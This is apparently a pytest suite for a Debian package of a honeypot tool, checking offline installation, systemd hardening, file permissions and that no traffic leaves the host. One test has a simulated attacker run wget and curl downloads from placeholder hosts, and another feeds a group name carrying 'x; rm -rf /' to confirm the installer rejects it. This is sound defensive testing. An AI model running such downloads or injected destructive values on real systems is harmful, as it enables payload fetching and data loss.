# SPDX-License-Identifier: MIT
"""``apt install decnet`` on a machine without a network: nobody is asked, and everything works at once."""

import subprocess

import pytest

from decnet.catalog import SERVICES, Role, services_of
from decnet.install.render import AS_ROOT, unit_of
from scripts.lib.lab.lab import Lab
from tests.support.attacks import under_attack
from tests.support.captures import captured
from tests.support.machines import Machines
from tests.support.packaged import UNITS, Installed, Packaged
from tests.support.packages import Package
from tests.support.repositories import SEEN_AT, Repository
from tests.support.sources import expect_none

pytestmark = [pytest.mark.lab, pytest.mark.bookworm]

LONGEST_SECONDS = 60
QUIET_SECONDS = 600
IMPORT_ALL = """\
import importlib, pkgutil
import decnet
names = [one.name for one in pkgutil.walk_packages(decnet.__path__, "decnet.")]
# what runs when it is imported: programs, and what only alembic calls
programs = [name for name in names if name.endswith(("__main__", ".migrations.env"))]
print(len([importlib.import_module(name) for name in names if name not in programs]))
"""
IN_CHROOT = (
    "mount -t proc proc /proc && mount -t tmpfs tmpfs /run && "
    "DEBIAN_FRONTEND=noninteractive apt-get install --yes --quiet /srv/packages/*.deb </dev/null"
)


def test_it_installs_without_a_question_and_a_network_and_everything_is_well_at_once(
    default_installation: Installed,
) -> None:
    found = default_installation
    assert found.finished.returncode == 0, found.finished.stdout + found.finished.stderr
    assert found.seconds < LONGEST_SECONDS
    assert found.facts["failed"] == ""
    assert [line.split()[:2] for line in found.facts["services"].splitlines()[1:]] == [
        [row.name, "ok"] for row in services_of(Role.MASTER)
    ]
    assert (found.facts["enabled"], found.facts["active"]) == ("enabled\n", "active\nactive\n")
    expect_none([line for line in found.facts["doctor"].splitlines() if not line.startswith("[  ok")])


def test_a_strange_shell_changes_nothing(honey_installation: Installed) -> None:
    """Standard input closed, mask 077, no terminal, and a python3 that does not work first on the path."""
    found = honey_installation
    assert found.finished.returncode == 0, found.finished.stdout + found.finished.stderr
    assert found.facts["failed"] == ""
    expect_none([line for line in found.facts["doctor"].splitlines() if not line.startswith("[  ok")])


def test_an_attack_is_listed_as_evidence(plain: Packaged) -> None:
    assert plain.log_in("echo reached") == "reached"
    assert plain.until_recorded(["reached"])["reached"] == 1
    assert {"opened", "credential", "command", "closed"} <= {row["kind"] for row in plain.records()}


def test_nothing_leaves_the_machine_unasked(default_installation: Installed) -> None:
    """Not while it is installed, nor while decoys are put up and attacked, nor after it was booted again."""
    assert default_installation.packets == []


@pytest.mark.soak
@pytest.mark.timeout(QUIET_SECONDS + 300)
def test_nothing_leaves_the_machine_for_ten_minutes(lab: Lab, plain: Packaged) -> None:
    with captured(lab) as capture:
        with under_attack(plain) as attack:
            plain.log_in("wget -O /tmp/x http://192.0.2.7/x; curl -o /tmp/y http://decnet.invalid/y; ping -c 1 192.0.2.7; true")
        assert capture.packets(wait_seconds=QUIET_SECONDS) == []
    assert attack.completed
    plain.until_well()


def test_there_is_no_docker_and_nothing_misses_it(plain: Packaged) -> None:
    assert plain.machine.run(["sh", "-c", "command -v docker"], check=False).returncode == 127
    assert plain.machine.run(["getent", "group", "docker"], check=False).returncode == 2
    assert plain.machine.failed_units() == []
    assert {decoy["state"] for decoy in plain.lines("status")} == {"up"}


def test_the_program_is_root_s_alone_and_the_identity_is_no_service_s_to_change(honey: Packaged) -> None:
    refused = honey.machine.run(["touch", "/opt/decnet/x"], user="honey", check=False)
    assert "Permission denied" in refused.stderr
    for path in ("/etc/decnet/package.conf", "/etc/decnet", "/etc/decnet/config.ini", "/opt/decnet", "/var/lib/decnet"):
        assert honey.machine.run(["test", "-w", path], user="honey", check=False).returncode == 1, path


def test_the_interpreter_has_all_that_the_programs_ask_for(honey: Packaged) -> None:
    """What a Debian without anything has of Python is less than a machine that somebody works on has."""
    honey.machine.run(["/opt/decnet/bin/python", "-I", "-c", "import ssl, sqlite3, ctypes, lzma, bz2, uuid"])
    said = honey.machine.run(["/opt/decnet/bin/python", "-I", "-B", "-W", "error", "-c", IMPORT_ALL])
    assert int(said.stdout) > 100
    assert said.stderr == ""


def test_a_unit_is_the_vendor_s_with_one_drop_in_of_the_configurator(honey: Packaged) -> None:
    shown = honey.machine.output("systemctl", "cat", "decnet-bus.service").splitlines()
    # on Debian 12 the folder of the units has its name without /usr
    files = [line for line in shown if line.startswith("# /")]
    assert [file.replace("# /lib/", "# /usr/lib/") for file in files] == [
        "# /usr/lib/systemd/system/decnet-bus.service",
        "# /etc/systemd/system/decnet-bus.service.d/10-decnet-identity.conf",
    ]
    assert "decnet configure" in "".join(shown[shown.index(files[1]) :])


def test_systemd_has_nothing_to_say_against_the_units(honey: Packaged) -> None:
    targets = ("decnet.target", "decnet-master.target", "decnet-agent.target")
    verified = honey.machine.run(["systemd-analyze", "verify", "--man=no", *targets, *UNITS, *AS_ROOT])
    assert verified.stdout + verified.stderr == ""
    pages = [f"/usr/share/man/man8/{unit.removesuffix('.service')}.8.gz" for unit in (*UNITS, *AS_ROOT)]
    assert honey.machine.output("ls", *pages).splitlines() == sorted(pages)
    mighty = {unit_of(row) for row in SERVICES if "CAP_NET_ADMIN" in row.capabilities}
    for unit in (*UNITS, *AS_ROOT):
        tenths = 25 if unit in mighty else 15
        honey.machine.run(["systemd-analyze", "security", "--no-pager", f"--threshold={tenths}", unit])


def test_an_impossible_name_stops_the_package_and_a_possible_one_lets_it_go_on(
    machine: Machines, repository: Repository, suite: str
) -> None:
    """The policy of this host starts nothing, so nothing runs until it is booted again."""
    packaged = Packaged(machine(suite=suite, binds={repository.folder: SEEN_AT}))
    booted = packaged.machine
    booted.put("/usr/sbin/policy-rc.d", "#!/bin/sh\nexit 101\n", mode=0o755)
    packaged.trust(repository)
    for name, value, written in (("user", "root", "=root"), ("group", "x; rm -rf /", "rm -rf")):
        packaged.answer(**{name: value})
        refused = packaged.install(check=False)
        assert refused.returncode == 100, refused.stdout
        assert packaged.state().startswith("iF ")
        assert (
            booted.run(
                ["sh", "-c", f"grep -rlF '{written}' /etc/decnet* /etc/*/*decnet* /etc/*/*/*decnet*"], check=False
            ).stdout
            == ""
        )
        assert "decnet/error-configuration" in booted.output("debconf-show", "decnet")
        assert booted.run(["dpkg-reconfigure", "-fnoninteractive", "decnet"], check=False).returncode == 1
        if name == "user":
            packaged.answer(user="honey")
        else:
            booted.put("/etc/decnet/package.conf", "DECNET_USER=honey\nDECNET_GROUP=secops\n")
    booted.run(["dpkg", "--configure", "-a"], environment={"DEBIAN_FRONTEND": "noninteractive"})
    assert packaged.state().startswith("ii ")
    assert (packaged.show("bus", "User"), packaged.show("bus", "Group")) == ("honey", "secops")
    assert booted.output("systemctl", "is-enabled", "decnet.target") == "enabled"
    assert set(packaged.processes().values()) == {0}
    booted.run(["rm", "/usr/sbin/policy-rc.d"])
    booted.reboot()
    packaged.until_well()


def test_an_image_is_installed_without_a_system_and_takes_its_identity_from_the_file(
    machine: Machines, package: Package, suite: str
) -> None:
    packaged = Packaged(machine(suite=suite))
    booted = packaged.machine
    booted.put("/srv/packages/decnet.deb", package.file.read_bytes())
    booted.put("/etc/decnet/package.conf", "# of the image\nDECNET_GROUP=adm\n")
    booted.power_off()
    spaces = ("unshare", "--mount", "--net", "--pid", "--fork", "--kill-child")
    command = [*spaces, "chroot", str(booted.root), "sh", "-c", IN_CHROOT]
    done = subprocess.run(command, check=False, capture_output=True, text=True, timeout=300, process_group=0)
    assert done.returncode == 0, done.stdout + done.stderr
    booted.power_on()
    packaged.until_well()
    assert booted.failed_units() == []
    assert (packaged.show("bus", "User"), packaged.show("bus", "Group")) == ("decnet", "adm")
    assert booted.output("sh", "-c", "debconf-show decnet | grep decnet/group") == "* decnet/group: adm"
    assert booted.output("head", "-n", "1", "/etc/decnet/package.conf") == "# of the image"
